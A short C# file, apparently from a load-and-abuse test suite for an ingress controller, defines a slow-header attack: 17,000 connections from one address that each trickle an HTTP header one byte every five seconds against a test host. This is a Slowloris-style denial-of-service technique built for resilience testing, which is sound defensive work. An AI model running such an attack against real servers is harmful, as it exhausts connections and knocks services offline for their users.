namespace IngressController.Load.Abuse.Attacks;

/// <summary>Heads of which an octet comes now and then.</summary>
sealed class TrickledHeads() : Attack("trickled-heads", "S17", "17,000 connections of one address with a head of which one octet comes each 5 s")
{
    public override Task RunAsync(AttackPlace place, CancellationToken end) =>
        Waiting.RunAsync(place, place.Ports.Http, "GET / HTTP/1.1\r\nHost: shop.victim.test\r\nX-"u8.ToArray(), "x"u8.ToArray(), end);
}
